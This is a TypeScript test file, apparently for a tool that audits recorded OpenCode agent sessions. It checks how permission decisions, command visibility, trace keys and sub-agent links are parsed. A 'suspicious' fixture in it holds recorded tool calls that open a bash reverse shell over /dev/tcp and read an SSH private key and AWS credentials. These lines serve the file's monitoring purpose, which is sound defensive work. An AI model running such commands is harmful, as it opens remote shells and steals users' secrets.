import { fixture, line, step, tell } from '../../test/support/recorded';

describe('by default', () => {
  const { events, links } = tell(fixture('opencode/benign-default'));

  it('reads a command out of its permission check, and says that it is a part', () => {
    const check = events.find((event) => line(event) === 'evaluated approved: exec command=git status --short');
    expect(check).toMatchObject({
      permission: { decision: 'accept', by: 'config' },
      visibility: [{ field: 'action.command', state: 'truncated' }],
    });
  });

  it('names the setting that shows the rest', () => {
    const call = events.find(({ source, action }) => source.record === 'Tool.execute' && action.type === 'exec');
    expect(call?.visibility).toEqual([
      { field: 'action.command', state: 'hidden', setting: 'experimental.openTelemetry: true' },
    ]);
  });

  it('keys logs and spans alike, by the trace', () => {
    const acts = events.filter(({ action }) => action.type === 'exec');
    expect(new Set(acts.map(({ scope }) => scope.slice(0, 6)))).toEqual(new Set(['trace:']));
    expect(new Set(acts.map(({ scope }) => scope)).size).toBe(1);
  });

  it('links the session of a sub-agent to its parent', () => {
    const link = links.find(({ kind }) => kind === 'child-parent');
    expect(link?.child).toMatch(/^session:opencode:ses_/);
    expect(link?.parent).toMatch(/^session:opencode:ses_/);
    expect(events.map(line)).toContain('created completed: session.start reason=subagent');
  });

  it('does not take the session of a sub-agent for that of everything in its trace', () => {
    const checks = events.filter(({ source }) => source.record === 'evaluated');
    expect(checks.filter(({ session }) => session !== undefined)).toEqual([]);
  });
});

describe('with the spans of the AI SDK', () => {
  const { events, ignored } = tell(fixture('opencode/suspicious-full'));

  it('has the whole command, its result and its exit code', () => {
    expect(step(events, 1)).toEqual([
      'Tool.execute completed: exec (ok)',
      "ai.toolCall completed: exec command=bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' (ok, exit 1)",
    ]);
    const call = events.find(
      (event) => line(event) === 'ai.toolCall completed: exec command=cat ~/.ssh/id_rsa (ok, exit 0)',
    );
    expect(call?.outcome?.output).toContain('OPENSSH');
    expect(step(events, 2)).toContain('ai.toolCall completed: file.read path=/home/dev/.aws/credentials (ok)');
  });

  it('hides nothing that another record of the same request shows', () => {
    const calls = events.filter(({ source }) => source.record === 'Tool.execute');
    expect(calls.flatMap(({ visibility }) => visibility ?? [])).toEqual([]);
  });

  it('counts a model call once, by the inner span', () => {
    expect(events.filter(({ action }) => action.type === 'model.call')).toHaveLength(1);
    expect(ignored).toContainEqual({ dialect: 'opencode', reason: 'duplicate', count: 1 });
  });

  it('copies no request headers', () => {
    expect(JSON.stringify(events)).not.toContain('User-Agent');
  });
});
